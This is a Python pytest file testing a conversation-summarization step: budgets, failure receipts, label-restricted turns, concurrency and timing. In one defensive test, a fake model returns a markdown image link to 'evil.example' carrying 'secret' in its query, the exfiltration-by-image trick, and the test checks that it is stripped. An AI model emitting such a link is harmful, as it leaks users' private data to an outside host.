"""Older turns of a conversation summed up by a model: after the answer, paid for, and never in anybody's way."""

from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest

from functions.recall_conversation.handler import recall_conversation
from functions.summarize_turns.handler import summarize_turns
from plinth.adapters.ledger_over_rows import LedgerOverRows
from plinth.chain.routing import route_of
from plinth.chain.summarizing import AT_ONCE, longest_prompt, summary_tokens
from plinth.contracts.access import Allowance, Allowances
from plinth.contracts.conversations import ModelSummary
from plinth.contracts.events import ReceiptMade, RunEnded
from plinth.contracts.models import ModelRequest, StopReason, StreamItem
from plinth.contracts.runs import Receipt, Run, RunStatus, Turn
from plinth.errors import ModelBusyError, ModelSilentError
from plinth.money.budgets import budgets_of
from plinth.runtime.call_costs import bound_of
from plinth.runtime.provenance import documents_before
from tests.fakes.answer_machine import AnswerMachine
from tests.fakes.ledger_rows import FakeLedgerRows
from tests.fakes.models import FakeModel, whole
from tests.unit.machine.world import KilledError
from tests.unit.steps.conftest import TENANT, ChainServices
from tests.unit.steps.test_answering import remember_document
from tests.unit.steps.test_remembering import prompt_of, talked

Call = Callable[..., dict[str, Any]]
Accept = Callable[..., Run]
WINDOW = 10
"""Turns that the model of these tests is told whole."""
SUMMARIZE_TURNS = "${SummarizeTurnsArn}"
SUMMED_UP = (["Ann asked four things."], whole())


@pytest.fixture
def asked(services: ChainServices, accept: Accept) -> Callable[..., Run]:
    """Accept a run in a conversation whose tier sums up, and end it."""
    services.ledger = LedgerOverRows(FakeLedgerRows(), clock=services.clock)

    def ask(turns: int = WINDOW + AT_ONCE, **asked_for: Any) -> Run:
        usual = {"conversation_id": "talk", "summary_model": "claude-haiku-5-5", "run_id": "run_98"}
        run = accept("And now?", **{**usual, **asked_for})
        talked(services, run, turns)
        ended = RunEnded(status=RunStatus.DONE, text_length=1)
        services.run_log.append(run, [ReceiptMade(receipt=Receipt(model_calls=(), model_cost_micro_usd=0)), ended])
        services.model = FakeModel(SUMMED_UP)
        return run

    return ask


def summary(services: ChainServices, *labels: str) -> ModelSummary | None:
    return services.conversations.summary(TENANT, "ann", "talk", labels=labels)


def next_one(accept: Accept, **asked_for: Any) -> Run:
    """Accept the conversation's next run."""
    usual = {"conversation_id": "talk", "summary_model": "claude-haiku-5-5", "run_id": "run_99"}
    return accept("And then?", **{**usual, **asked_for})


def test_turns_that_left_the_last_ones_are_told_by_the_summary_and_no_other_way(
    services: ChainServices, call: Call, accept: Accept, asked: Callable[..., Run]
) -> None:
    run = asked()
    assert route_of(services.runs.get(TENANT, run.id).request).history_turns == WINDOW
    assert call(recall_conversation, run=run)["summary_due"]

    assert call(summarize_turns, run=run)["turns"] == AT_ONCE

    again = next_one(accept)
    prompt = prompt_of(services, call, again)
    assert "Earlier in this conversation:\nAnn asked four things." in prompt.system
    assert "Question 3?" not in prompt.system
    assert [message.text for message in prompt.messages[:2]] == ["Question 4?", "Answer 4."]
    assert set(documents_before(again, services, turn=1)) == {f"doc_{number}" for number in range(WINDOW + AT_ONCE)}
    assert not call(recall_conversation, run=again)["summary_due"]


def test_a_summary_is_made_of_the_one_before_and_the_next_turns(
    services: ChainServices, call: Call, accept: Accept, asked: Callable[..., Run]
) -> None:
    call(summarize_turns, run=asked())
    services.model = FakeModel((["Ann asked eight things."], whole()))
    again = asked(WINDOW + 2 * AT_ONCE, run_id="run_99")

    assert call(summarize_turns, run=again)["turns"] == AT_ONCE

    (request,) = services.model.requests
    told = request.prompt.messages[0].text
    assert "Summary so far:\nAnn asked four things." in told
    assert [f"Question {number}?" in told for number in (3, 4, 7, 8)] == [False, True, True, False]
    kept = summary(services)
    assert kept
    assert (kept.turns, kept.from_at, kept.until_at, kept.by, kept.follows) == (8, 0, 7, "run_99", "run_98")
    assert kept.covers == tuple(f"run_{number:02d}" for number in range(8))


def test_a_tier_without_a_summary_model_calls_none_and_tells_no_summary_of_former_days(
    services: ChainServices, call: Call, accept: Accept, asked: Callable[..., Run]
) -> None:
    call(summarize_turns, run=asked())
    off = next_one(accept, summary_model="")

    prompt = prompt_of(services, call, off)

    assert "- Question 0? -> Answer 0." in prompt.system
    assert "Ann asked" not in prompt.system
    assert not call(recall_conversation, run=off)["summary_due"]
    assert call(summarize_turns, run=off) == {"turns": 0, "calls": ()}


def test_too_few_turns_are_told_in_a_line_each_until_there_are_enough(
    services: ChainServices, call: Call, asked: Callable[..., Run]
) -> None:
    run = asked(WINDOW + AT_ONCE - 1)

    assert not call(recall_conversation, run=run)["summary_due"]
    assert call(summarize_turns, run=run) == {"turns": 0, "calls": ()}
    assert services.model.requests == []


@pytest.mark.parametrize(
    ("said", "outcome"),
    [
        (([], ModelBusyError("busy")), "model_busy"),
        (([], ModelSilentError("silent")), "model_silent"),
        ((["Ann"], None), "model_stream_cut"),
        (([" "], whole()), "model_reply_invalid"),
        ((["I can't help with that."], whole(StopReason.REFUSAL)), "complete"),
    ],
)
def test_a_summary_that_fails_is_on_the_receipt_and_changes_nothing_else(
    services: ChainServices, call: Call, asked: Callable[..., Run], said: Any, outcome: str
) -> None:
    run = asked()
    services.model = FakeModel(said)

    answer = call(summarize_turns, run=run)

    record = services.runs.get(TENANT, run.id)
    assert record.receipt
    assert (answer["turns"], summary(services), record.status) == (0, None, RunStatus.DONE)
    assert [(each.step, each.outcome) for each in record.receipt.model_calls] == [("SummarizeTurns", outcome)]


@pytest.mark.guarantee_b
@pytest.mark.parametrize(("limit", "calls"), [(1_000_000, 1), (1, 0)])
def test_a_summary_is_paid_within_the_budget_and_counted_once_in_receipt_and_usage(
    services: ChainServices, call: Call, asked: Callable[..., Run], limit: int, calls: int
) -> None:
    run = asked(budgets=Allowances(tenant=Allowance(day_micro_usd=limit), revision=1))

    for _ in range(2):
        call(summarize_turns, run=run)

    record = services.runs.get(TENANT, run.id)
    (left,) = services.ledger.left(budgets_of(TENANT, record.request))
    (day,) = services.usage.days(TENANT, first="0000-01-01", last="9999-12-31")
    assert record.receipt
    assert len(record.receipt.model_calls) == len(services.model.requests) == calls
    assert left.day.spent_micro_usd == record.receipt.model_cost_micro_usd == day.amounts.get("model_cost_micro_usd", 0)
    assert (left.day.held_micro_usd, day.amounts["runs"], day.amounts.get("calls", 0)) == (0, 1, calls)
    assert (left.day.spent_micro_usd > 0) == bool(calls)


@pytest.mark.guarantee_b
def test_no_summary_of_plain_text_costs_more_than_its_stated_bound(
    services: ChainServices, call: Call, asked: Callable[..., Run]
) -> None:
    run = asked()
    asked_for = services.runs.get(TENANT, run.id).request
    route = route_of(asked_for)
    tokens = summary_tokens(route.passage_characters)
    long = Turn(question="Why? " * 1000, answer="So. " * 9000, at=0.0)
    for number in range(WINDOW + AT_ONCE):
        services.conversations.append(replace(run, id=f"run_{number:02d}"), "ann", "talk", long)

    (cost,) = call(summarize_turns, run=run)["calls"]

    stated = bound_of(route.models[0], longest_prompt(tokens), max_output_tokens=tokens)
    assert 0 < cost["bound_micro_usd"] <= stated
    assert services.model.requests[0].max_output_tokens == tokens == 300


class Meddling(FakeModel):
    """Lets something else happen while it is asked."""

    def __init__(self, meanwhile: Callable[[], object]) -> None:
        super().__init__(SUMMED_UP)
        self._meanwhile = meanwhile

    def stream(self, request: ModelRequest) -> Iterator[StreamItem]:
        self._meanwhile()
        yield from super().stream(request)


@pytest.mark.guarantee_d
def test_what_was_erased_meanwhile_is_not_kept_in_a_summary(
    services: ChainServices, call: Call, asked: Callable[..., Run]
) -> None:
    run = asked()
    services.model = Meddling(lambda: services.conversations.erase(TENANT, "ann", "talk"))

    answer = call(summarize_turns, run=run)

    assert (answer["turns"], len(answer["calls"]), summary(services)) == (0, 1, None)


def test_of_two_runs_at_once_one_sums_up_and_nothing_is_told_twice(
    services: ChainServices, call: Call, accept: Accept, asked: Callable[..., Run]
) -> None:
    run, other = asked(), next_one(accept)
    quicker: list[dict[str, Any]] = []

    def sum_up_first() -> None:
        services.model = FakeModel(SUMMED_UP)
        quicker.append(call(summarize_turns, run=other))

    services.model = Meddling(sum_up_first)
    slower = call(summarize_turns, run=run)

    assert (quicker[0]["turns"], slower["turns"]) == (AT_ONCE, 0)
    kept = summary(services)
    assert kept
    assert (kept.turns, kept.by) == (AT_ONCE, "run_99")


@pytest.mark.guarantee_e
def test_what_was_said_with_more_labels_is_summed_up_only_for_who_holds_them(
    services: ChainServices, call: Call, accept: Accept, asked: Callable[..., Run]
) -> None:
    run = asked()
    secret = Turn(question="The board's plan?", answer="To sell.", at=0.5, labels=("board",))
    services.conversations.append(replace(run, id="run_00a"), "ann", "talk", secret)

    call(summarize_turns, run=run)
    assert "sell" not in services.model.requests[0].prompt.messages[0].text

    board = next_one(accept, labels=("board",))
    assert "Ann asked" not in prompt_of(services, call, board).system
    services.model = FakeModel(SUMMED_UP)
    call(summarize_turns, run=board)
    assert "sell" in services.model.requests[0].prompt.messages[0].text
    assert summary(services, "board")


@pytest.mark.guarantee_h
def test_a_summary_carries_no_link_to_a_host_that_is_not_listed(
    services: ChainServices, call: Call, asked: Callable[..., Run]
) -> None:
    run = asked()
    services.model = FakeModel((["See ![x](https://evil.example/?q=secret)."], whole()))

    call(summarize_turns, run=run)

    kept = summary(services)
    assert kept
    assert "secret" not in kept.text


def test_the_answer_is_out_and_the_run_has_ended_before_a_summary_is_asked_for(
    services: ChainServices, accept: Accept
) -> None:
    remember_document(services, "apt purge removes the configuration files too")
    run = next_one(accept)
    talked(services, run, WINDOW + AT_ONCE)
    when: list[tuple[RunStatus, float | None]] = []

    class Watching(FakeModel):
        def stream(self, request: ModelRequest) -> Iterator[StreamItem]:
            record = services.runs.get(TENANT, run.id)
            when.append((record.status, record.ended_at))
            services.time.advance(9)
            yield from super().stream(request)

    services.model = Watching((["By apt purge [1]."], whole()), SUMMED_UP)
    began = services.clock.now()
    moments = list(AnswerMachine(services, services.time).execution(run))

    assert moments[-2:] == ["before SummarizeTurns", "after SummarizeTurns"]
    assert when == [(RunStatus.RUNNING, None), (RunStatus.DONE, began + 9)]
    record = services.runs.get(TENANT, run.id)
    assert record.receipt
    assert [each.step for each in record.receipt.model_calls] == ["CallModel", "SummarizeTurns"]


def test_a_run_that_is_handed_over_to_another_execution_is_followed_by_a_summary_too(
    services: ChainServices, accept: Accept
) -> None:
    remember_document(services, "apt purge removes the configuration files too")
    run = next_one(accept, seconds=1800)
    talked(services, run, WINDOW + AT_ONCE)

    class Slow(FakeModel):
        def stream(self, request: ModelRequest) -> Iterator[StreamItem]:
            services.time.advance(1 if self.requests else 100)
            yield from super().stream(request)

    services.model = Slow(([], ModelSilentError("silent")), (["By apt purge [1]."], whole()), SUMMED_UP)
    machine = AnswerMachine(services, services.time)
    assert "after SaveContinuation" in list(machine.execution(run))

    moments = list(machine.execution(replace(run, epoch=2)))

    assert moments[-1] == "after SummarizeTurns"
    assert summary(services)


@pytest.mark.guarantee_b
def test_a_function_that_dies_while_it_sums_up_costs_its_bound_and_harms_no_run(
    services: ChainServices, accept: Accept
) -> None:
    services.ledger = ledger = LedgerOverRows(FakeLedgerRows(), clock=services.clock)
    remember_document(services, "apt purge removes the configuration files too")
    run = next_one(accept, budgets=Allowances(tenant=Allowance(day_micro_usd=1_000_000), revision=1))
    talked(services, run, WINDOW + AT_ONCE)
    machine = AnswerMachine(services, services.time)
    handler = machine.handler(SUMMARIZE_TURNS)

    def die(event: Any, context: Any) -> Any:
        services.model = Meddling(lambda: (_ for _ in ()).throw(KilledError))
        try:
            handler(event, context)
        except KilledError:
            raise type("Runtime.ExitError", (Exception,), {}) from None

    machine.handlers[SUMMARIZE_TURNS] = die
    services.model = FakeModel((["By apt purge [1]."], whole()))
    moments = list(machine.execution(run))
    services.time.advance(3600)
    ledger.sweep(limit=10)

    record = services.runs.get(TENANT, run.id)
    assert record.receipt
    (left,) = ledger.left(budgets_of(TENANT, record.request))
    lost = [call for call in ledger.started(run) if call.step == "SummarizeTurns"]
    assert (record.status, moments.count("before SummarizeTurns"), len(lost)) == (RunStatus.DONE, 1, 1)
    assert left.day.spent_micro_usd == record.receipt.model_cost_micro_usd + lost[0].bound_micro_usd
    assert left.day.held_micro_usd == 0


def test_a_run_with_little_time_left_leaves_the_summary_to_the_next(
    services: ChainServices, call: Call, asked: Callable[..., Run]
) -> None:
    run = asked()
    services.time.advance(250)

    assert call(summarize_turns, run=run) == {"turns": 0, "calls": ()}
    assert services.model.requests == []
